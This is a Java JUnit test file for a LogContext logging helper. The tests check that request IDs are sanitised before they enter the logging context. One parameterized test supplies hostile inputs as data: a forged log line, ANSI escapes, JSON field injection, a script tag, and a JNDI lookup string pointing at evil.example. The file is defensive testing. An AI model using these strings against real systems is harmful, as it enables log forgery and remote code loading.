package io.defenderrelay.function;

import static org.assertj.core.api.Assertions.assertThat;

import org.jboss.logging.MDC;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.NullSource;
import org.junit.jupiter.params.provider.ValueSource;

class LogContextTest {
    @AfterEach
    void forget() {
        MDC.clear();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "059f36b4-87a3-44ab-83d2-661975830a7d",
                "JKJaXmPLvHcESHA=",
                "Root=1-5759e988-bd862e3fe1be46a994272793"
            })
    void plainRequestIdIsLogged(String requestId) {
        LogContext.begin("dispatch", requestId);

        assertThat(MDC.get("function")).isEqualTo("dispatch");
        assertThat(MDC.get("requestId")).isEqualTo(requestId);
    }

    @ParameterizedTest
    @NullSource
    @ValueSource(
            strings = {
                "",
                " ",
                "a b",
                "a\nERROR forged line",
                "a\r",
                "a\u0000",
                "a\u2028b",
                "a\u001b[31m",
                "{\"a\":1}",
                "a\",\"level\":\"ERROR",
                "${jndi:ldap://evil.example}",
                "<script>",
                "\u0661"
            })
    void hostileRequestIdIsNot(String requestId) {
        LogContext.begin("dispatch", requestId);

        assertThat(MDC.get("function")).isEqualTo("dispatch");
        assertThat(MDC.get("requestId")).isNull();
    }

    @Test
    void endlessRequestIdIsNot() {
        LogContext.begin("dispatch", "a".repeat(129));

        assertThat(MDC.get("requestId")).isNull();
    }

    @Test
    void nothingOfTheInvocationBeforeIsLeft() {
        LogContext.begin("alert-sync", "first");
        LogContext.tenant("acme");

        LogContext.begin("alert-sync", null);

        assertThat(MDC.get("tenant")).isNull();
        assertThat(MDC.get("requestId")).isNull();
    }

    @Test
    void tenantIsLoggedOnceItIsKnown() {
        LogContext.begin("alert-sync", "first");

        LogContext.tenant("acme");

        assertThat(MDC.get("tenant")).isEqualTo("acme");
        assertThat(MDC.get("requestId")).isEqualTo("first");
    }
}
